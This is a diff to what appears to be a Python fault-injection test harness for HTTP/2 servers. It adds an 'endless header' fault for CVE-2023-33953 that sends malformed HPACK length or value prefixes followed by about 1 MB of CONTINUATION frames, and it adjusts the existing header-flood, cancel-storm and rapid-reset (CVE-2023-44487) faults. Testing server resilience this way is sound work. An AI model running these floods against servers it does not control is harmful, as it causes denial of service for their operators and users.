@@ -2,12 +2,18 @@
 
 import random
 import struct
+import time
 
 from faults.fault import Fault, Promise
 from faults.http2 import (
     ACK, CANCEL, CHECK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING,
     PREFACE, PRIORITY, PUSH_PROMISE, RST_STREAM, SETTINGS, WINDOW_UPDATE, NoAnswer, Peer, Silence,
     call_headers, connect, frame, literal, whole_call)
+
+# Of headers: near the most that a frame may have.
+_FRAME = 16_000
+# 1 MB.
+_ENDLESS_FRAMES = 62
 
 _BEGUN = frame(HEADERS, END_HEADERS, 1, call_headers())
 
@@ -143,7 +149,7 @@ def _cancel(scene, stream, count):
 def _header_flood(scene):
     """Headers that go on and on in CONTINUATION frames, which the limit of metadata
     does not count together."""
-    field = b"".join(literal(f"x-{i}", "v" * 60) for i in range(200))[:16000]
+    field = b"".join(literal(f"x-{i}", "v" * 60) for i in range(200))[:_FRAME]
     sent = 0
     while scene.going_on() and sent < 256 << 20:
         made = _hello(scene)
@@ -160,13 +166,36 @@ def _header_flood(scene):
     scene.note = f"{sent >> 20} MiB of headers"
 
 
+def _endless_header(scene):
+    """A header whose length, then one whose value, never ends: each frame of it makes
+    the server look at all of it again."""
+    beginnings = {b"\x80": b"\x00\x7f", b"v": b"\x00\x01x\x7f\x81\xff\xff\xff\x0e"}
+    sent = rounds = 0
+    while rounds == 0 or scene.going_on():
+        for byte, beginning in beginnings.items():
+            with _hello(scene) as made:
+                try:
+                    made.sendall(frame(HEADERS, 0, 1, call_headers() + beginning))
+                    for _ in range(_ENDLESS_FRAMES):
+                        made.sendall(frame(CONTINUATION, 0, 1, byte * _FRAME))
+                        sent += _FRAME
+                except OSError:
+                    pass
+                # Once it has looked at all of that, others are served.
+                scene.recover_anew(scene.server, time.monotonic(), 30)
+        rounds += 1
+    scene.note = f"{sent >> 20} MiB"
+
+
 FAULTS = [
     Fault("malformed_frames", "frames that HTTP/2 forbids, calls with random bytes in them, noise; a "
           "call after each gets the right answer or none", _malformed),
     Fault("cancel_storm", "batches of 100 checks that are cancelled once sent",
-          _repeat(_cancel)),
+          _repeat(_cancel), Promise(memory=None)),
     Fault("rapid_reset", "calls that are reset once their headers are sent (CVE-2023-44487)",
           _repeat(_rapid_reset), Promise(memory=None)),
-    Fault("header_flood", "headers without end, in CONTINUATION frames (CVE-2023-33953)",
+    Fault("header_flood", "headers without end, in CONTINUATION frames",
           _header_flood, Promise(memory=None)),
+    Fault("endless_header", "headers whose length or value goes on for 1 MB, again and again "
+          "(CVE-2023-33953)", _endless_header, Promise(recovery=30, memory=None)),
 ]
